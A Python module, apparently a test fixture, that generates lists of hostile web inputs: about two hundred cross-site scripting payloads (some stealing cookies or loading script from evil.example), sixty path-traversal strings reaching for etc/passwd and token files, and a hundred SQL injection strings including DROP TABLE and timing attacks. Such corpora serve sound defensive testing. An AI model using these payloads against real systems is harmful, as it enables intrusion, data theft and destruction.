"""Texts that a careless page would run as script."""

from __future__ import annotations

from itertools import product
from typing import Final

_CALLS: Final = ("alert(1)", "alert`1`", "window['al'+'ert'](1)", "top.confirm(1)", "prompt(document.cookie)")
_FRAMES: Final = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror={}>',
    "'><svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src=javascript:{}></iframe>",
    '<a href="javascript:{}">x</a>',
    "javascript:{}",
    '" autofocus onfocus={} x="',
    "' onmouseover={} '",
    "<details open ontoggle={}>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={}>'>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><script>{}</script></template>",
    "<style>@import 'http://evil.example/x.css';</style><b onclick={}>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<form action='javascript:{}'><input type=submit autofocus>",
    "<base href='http://evil.example/'><img src=x onerror={}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href='http://evil.example/x' onerror={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>x</marquee>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "\u2028<script>{}</script>\u2029",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "<SCRIPT/SRC=//evil.example/x onload={}></SCRIPT>",
    "<<script>{}//<</script>",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
)
PAYLOADS: Final = tuple(frame.format(call) for frame, call in product(_FRAMES, _CALLS))
"""Two hundred."""

_TARGETS: Final = ("etc/passwd", "pyproject.toml", "store.sqlite3", "review-token", "evil.example/x", "x")
_CLIMBS: Final = (
    *("../../../../{}", "..%2f..%2f..%2f{}", "%2e%2e/%2e%2e/{}", "%252e%252e%252f{}", "..\\..\\{}", "....//....//{}"),
    *("/{}", "//{}", "/\\{}", "{}%00.png"),
)
PATHS: Final = tuple(climb.format(target) for climb, target in product(_CLIMBS, _TARGETS))
"""Sixty paths that lead out of where they are put, as they stand in a request."""

_VALUES: Final = ("1", "title", "narrative", "(SELECT token FROM tokens)", "demo")
_QUERIES: Final = (
    *("' OR {0}={0} --", '" OR "{0}"="{0}', "'; DROP TABLE items; -- {0}", "{0}) UNION SELECT {0} --", "%{0}%", "_{0}"),
    *(
        "]] OR {0}",
        "\"{0}\"; ATTACH DATABASE 'x' AS y; --",
        "{0} ESCAPE '\\'",
        "`{0}`",
        "[{0}]",
        "${{{0}}}",
        "{{{{{0}}}}}",
    ),
    *("{0}\x00", "{0} COLLATE NOCASE", "-{0} DESC", "items.{0}", "{0}/**/OR/**/1", "\\{0}", "{0}' AND sleep(9) --"),
)
QUERIES: Final = tuple(query.format(value) for query, value in product(_QUERIES, _VALUES))
"""A hundred words that a careless query would run."""
